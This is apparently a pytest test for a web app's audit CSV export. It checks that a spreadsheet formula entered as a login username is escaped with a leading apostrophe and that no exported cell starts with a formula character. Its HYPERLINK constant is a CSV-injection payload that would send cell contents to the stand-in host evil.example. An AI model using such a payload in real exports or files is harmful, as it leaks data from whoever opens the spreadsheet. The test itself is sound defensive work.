"""Accounts and the audit CSV under attack through the web app (issue 9, items 5 and 6)."""

from __future__ import annotations

import csv
import io
from typing import Any

from fastapi import FastAPI
from fastapi.testclient import TestClient

from conductlens.review.sample import World

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_a_formula_typed_as_a_user_name_stays_text_in_the_audit_csv(
        app: FastAPI, login: Any, world: World) -> None:
    anonymous = TestClient(app, base_url="http://localhost")
    anonymous.post("/api/login", json={"username": HYPERLINK, "password": "x" * 12})
    auditor = login("auditor")
    response = auditor.get("/audit/export.csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.text)))
    failed = [r for r in rows if r["action"] == "login.failed"]
    assert failed and failed[-1]["username"] == "'" + HYPERLINK[:64]
    for row in rows:
        assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())
